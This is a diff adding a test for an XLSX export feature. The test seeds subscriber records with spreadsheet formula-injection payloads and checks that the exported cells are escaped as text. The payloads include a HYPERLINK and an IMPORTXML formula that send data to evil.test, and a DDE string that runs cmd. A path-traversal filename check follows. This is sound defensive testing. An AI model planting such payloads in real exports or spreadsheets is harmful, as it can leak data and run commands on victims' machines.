@@ -109,6 +109,39 @@ describe.each(testBackends())("'Upload as XLSX' on $name", (backend) => {
     expect((await viewer.get(`/api/v1/segments/${id}/xlsx`)).statusCode).toBe(200);
   });
 
+  it("writes subscriber text that a spreadsheet would run as a formula as text prefixed with '", async () => {
+    const attack = {
+      device: '=HYPERLINK("https://evil.test/?leak="&A1,"Click")',
+      os: "+cmd|' /C calc'!A0",
+      resolution: '-2+3',
+      location: '@SUM(1+1)',
+      language: '\t=1+1',
+      timezone: '\r=1+1',
+      last_url_visited: '=IMPORTXML("https://evil.test","//a")',
+    };
+    await addSubscribers(t.handle.db, shop, [{ browser: 'Sheets', ...attack }]);
+    const id = await createSegment(acme, {
+      name: 'sheets',
+      domain_id: shop.id,
+      query: q({ browser: { values: ['Sheets'] } }),
+    });
+    const res = await acme.get(`/api/v1/segments/${id}/xlsx`);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+    const sheet = wb.worksheets[0]!;
+    const types = new Set<ExcelJS.ValueType>();
+    sheet.eachRow((row) => row.eachCell((c) => void types.add(c.type)));
+    expect(types.has(ExcelJS.ValueType.Formula)).toBe(false);
+    expect(sheet.rowCount).toBe(2);
+    const row = sheet.getRow(2);
+    for (const [key, text] of Object.entries(attack)) {
+      const cell = row.getCell(SUBSCRIBER_COLUMNS.findIndex((c) => c.key === key) + 1);
+      expect(cell.type, key).toBe(ExcelJS.ValueType.String);
+      expect(cell.value, key).toBe(`'${text.replace('\r', '\n')}`); // XML reads a CR back as a LF
+    }
+    expect(row.getCell(SUBSCRIBER_COLUMNS.findIndex((c) => c.key === 'browser') + 1).value).toBe('Sheets');
+  });
+
   it('names files safely', () => {
     expect(xlsxDisposition('../../etc/passwd', 3)).toBe(
       `attachment; filename="etc passwd.xlsx"; filename*=UTF-8''etc%20passwd.xlsx`,
